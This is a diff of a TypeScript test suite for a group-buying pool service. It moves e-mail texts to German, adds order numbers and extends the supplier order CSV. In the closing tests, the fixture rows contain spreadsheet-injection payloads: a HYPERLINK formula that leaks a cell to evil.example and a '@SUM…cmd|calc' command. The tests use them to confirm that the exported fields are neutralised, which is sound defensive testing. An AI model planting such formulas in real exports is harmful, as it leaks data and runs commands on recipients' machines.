@@ -60,7 +60,7 @@ const poolBody = (over: Record<string, unknown> = {}) => ({
 async function open(net: string, over: Record<string, unknown> = {}, as: Claims = claims.coordinator(net)) {
   const res = await call(openPool, { method: 'POST', path: '/pools', claims: as, body: poolBody(over) });
   expect(res.status, res.text).toBe(201);
-  return res.body as { id: string; deadline: string };
+  return res.body as { id: string; deadline: string; orderNumber: string };
 }
 
 const join = (net: string, poolId: string, partnerId: string, quantity: unknown) =>
@@ -371,7 +371,9 @@ describe('joining, changing, withdrawing', () => {
     // Assess: tier 1 mailed once to each participant who was in when the tier was claimed
     const p1 = await mailsTo('tn1-p1@firm.example');
     expect(p1).toHaveLength(1);
-    expect(p1[0]!.subject).toMatch(/tier 1 reached: 13\.00 € per unit; \d+ units to tier 2 \(11\.40 €\)/);
+    expect(p1[0]!.subject).toMatch(
+      /Staffel 1 erreicht: 13,00 € pro Einheit; noch \d+ Einheiten bis Staffel 2 \(11,40 €\)/,
+    );
     expect(p1[0]!.from).toBe('tn1-slug@inbound.verbund.test');
     expect(p1[0]!.fromName).toBe('Netzwerk tn1');
     // Act: a change pushes it over tier 2 (50)
@@ -380,7 +382,7 @@ describe('joining, changing, withdrawing', () => {
       (m) => m.from === 'tn1-slug@inbound.verbund.test',
     );
     const tier2 = all.filter((m) =>
-      m.subject.includes('tier 2 reached: 11.40 € per unit; 45 units to tier 3'),
+      m.subject.includes('Staffel 2 erreicht: 11,40 € pro Einheit; noch 45 Einheiten bis Staffel 3'),
     );
     expect(tier2.map((m) => m.to[0]).sort()).toEqual([
       'tn1-p1@firm.example',
@@ -455,12 +457,12 @@ describe('concurrency', () => {
     expect([a, b].filter((r) => r.body.status === 'closed')).toHaveLength(2);
     expect(
       await mailsTo('orders@holz.example').then((m) =>
-        m.filter((x) => x.subject.includes(pool.id.toUpperCase())),
+        m.filter((x) => x.subject.includes(pool.orderNumber) && x.from === 'cc3-slug@inbound.verbund.test'),
       ),
     ).toHaveLength(1);
     expect(
       await mailsTo('cc3-p1@firm.example').then((m) =>
-        m.filter((x) => x.subject.startsWith('Order confirmed')),
+        m.filter((x) => x.subject.startsWith('Bestellung bestätigt')),
       ),
     ).toHaveLength(1);
     expect((await usage('cc3')).poolsClosed).toBe(1);
@@ -484,17 +486,17 @@ describe('closing', () => {
     const res = await close('csv1', pool.id);
     // Assess
     expect(res.status).toBe(200);
-    const [order] = (await mailsTo('orders@holz.example')).filter((x) =>
-      x.subject.includes(pool.id.toUpperCase()),
+    const [order] = (await mailsTo('orders@holz.example')).filter(
+      (x) => x.subject.includes(pool.orderNumber) && x.from === 'csv1-slug@inbound.verbund.test',
     );
     const csv = order!.attachments.find((a) => a.filename.endsWith('.csv'))!.content;
-    const ref = `PO-${pool.id.toUpperCase()}`;
+    const ref = pool.orderNumber;
     const rows = csv.trim().split('\r\n');
     expect(rows).toContain(
-      `${ref},'+43-OSB,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Rabatt"")",'-Stk,'@SUM(1+1)*cmd|calc,30,11.40,342.00`,
+      `${ref},'+43-OSB,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Rabatt"")",'-Stk,'@SUM(1+1)*cmd|calc,,,30,11.40,342.00`,
     );
     expect(rows).toContain(
-      `${ref},'+43-OSB,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Rabatt"")",'-Stk,"Tischlerei; Holz & Co",25,11.40,285.00`,
+      `${ref},'+43-OSB,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Rabatt"")",'-Stk,"Tischlerei; Holz & Co",,,25,11.40,285.00`,
     );
     // no field of any row starts a formula
     const fields = rows
@@ -536,28 +538,33 @@ describe('closing', () => {
     ]);
     expect(scheduler.list().some((s) => s.name === `pool-${pool.id}`)).toBe(false);
     const [order] = await mailsTo('orders@holz.example').then((m) =>
-      m.filter((x) => x.subject.includes(pool.id.toUpperCase())),
+      m.filter((x) => x.subject.includes(pool.orderNumber) && x.from === 'cl1-slug@inbound.verbund.test'),
     );
     expect(order!.fromName).toBe('Netzwerk cl1');
     expect(order!.replyTo).toEqual(['office@cl1.example']);
-    expect(order!.subject).toBe(`Purchase order PO-${pool.id.toUpperCase()}: 55 Stk OSB-Platte 18 mm`);
-    expect(order!.html).toContain('<td>55</td>');
+    expect(order!.subject).toBe(`Bestellung / Purchase order ${pool.orderNumber}: 55 Stk OSB-Platte 18 mm`);
+    expect(pool.orderNumber).toMatch(/^[A-Z]{2,6}-B-\d{4}-\d{4}$/);
+    expect(order!.html).toContain('55 Stk');
+    expect(order!.attachments.find((a) => a.filename === `${pool.orderNumber}.pdf`)?.mimeType).toBe(
+      'application/pdf',
+    );
     const csv = order!.attachments.find((a) => a.filename.endsWith('.csv'));
     expect(csv?.mimeType).toBe('text/csv');
     const rows = csv!.content.trim().split('\r\n');
     expect(rows[0]).toBe(
-      'reference,article_number,article,unit,deliver_to,quantity,unit_price_eur,line_total_eur',
+      'reference,article_number,article,unit,deliver_to,delivery_address,requested_delivery_date,quantity,unit_price_eur,line_total_eur',
     );
-    expect(rows).toContain(
-      `PO-${pool.id.toUpperCase()},OSB-18,OSB-Platte 18 mm,Stk,Firma cl1-p1,32,11.40,364.80`,
-    );
-    expect(rows.at(-1)).toBe(`PO-${pool.id.toUpperCase()},OSB-18,TOTAL,Stk,,55,11.40,637.01`);
+    expect(rows).toContain(`${pool.orderNumber},OSB-18,OSB-Platte 18 mm,Stk,Firma cl1-p1,,,32,11.40,364.80`);
+    expect(rows.at(-3)).toBe(`${pool.orderNumber},OSB-18,TOTAL,Stk,,,,55,11.40,637.01`);
+    expect(rows.at(-1)).toBe(`${pool.orderNumber},,TOTAL incl. VAT,,,,,,,764.41`);
     const [confirmation] = (await mailsTo('cl1-p2@firm.example')).filter((m) =>
-      m.subject.startsWith('Order confirmed'),
+      m.subject.startsWith('Bestellung bestätigt'),
     );
-    expect(confirmation!.text).toContain('23 Stk at 11.40 € = 262.20 €');
-    expect(confirmation!.text).toContain('you asked for 21; 2 added to fill whole packs of 5');
-    expect(confirmation!.text).toContain('shipping share 5.00 €');
+    expect(confirmation!.text).toContain('23 Stk × 11,40 € = 262,20 €');
+    expect(confirmation!.text).toContain(
+      'Sie hatten 21 angefragt; 2 kamen dazu, um ganze Packungen zu 5 zu bestellen.',
+    );
+    expect(confirmation!.text).toContain('Versandanteil: 5,00 €');
     // the partner sees its own allocation only
     const asP2 = await detail(pool.id, claims.partner('cl1', 'cl1-p2'));
     expect(asP2.body.allocation.lines.map((l: { partnerId: string }) => l.partnerId)).toEqual(['cl1-p2']);
@@ -584,7 +591,7 @@ describe('closing', () => {
       .then(outbox.read)
       .then((all) =>
         all.filter(
-          (m) => m.from === 'big-slug@inbound.verbund.test' && m.subject.startsWith('Order confirmed'),
+          (m) => m.from === 'big-slug@inbound.verbund.test' && m.subject.startsWith('Bestellung bestätigt'),
         ),
       );
     expect(new Set(confirmations.map((m) => m.to[0])).size).toBe(120);
@@ -608,8 +615,8 @@ describe('closing', () => {
     const out = await closeScheduled({ networkId: 'cl2', poolId: pool.id }, {} as never);
     expect(out).toMatchObject({ status: 'cancelled', closedNow: true });
     const [notice] = await mailsTo('cl2-p1@firm.example');
-    expect(notice!.subject).toBe('Pool cancelled: OSB-Platte 18 mm');
-    expect(notice!.text).toContain('the minimum total quantity of 100 was not reached (3 requested)');
+    expect(notice!.subject).toBe('Pool abgesagt: OSB-Platte 18 mm');
+    expect(notice!.text).toContain('die Mindestmenge von 100 wurde nicht erreicht (3 angefragt)');
     expect(
       await mailsTo('orders@holz.example').then((m) => m.filter((x) => x.text.includes('Netzwerk cl2'))),
     ).toEqual([]);
@@ -708,7 +715,8 @@ describe('deadline and cancel', () => {
     expect(res.body).toMatchObject({ status: 'cancelled', cancelReason: 'the supplier withdrew the offer' });
     expect(scheduler.list().some((s) => s.name === `pool-${pool.id}`)).toBe(false);
     const [notice] = await mailsTo('dl2-p2@firm.example');
-    expect(notice!.text).toContain('was cancelled: the supplier withdrew the offer');
+    expect(notice!.text).toContain('wurde abgesagt');
+    expect(notice!.text).toContain('> the supplier withdrew the offer');
     expect((await join('dl2', pool.id, 'dl2-p1', 1)).status).toBe(409);
     const twice = await call(cancelPool, {
       method: 'POST',
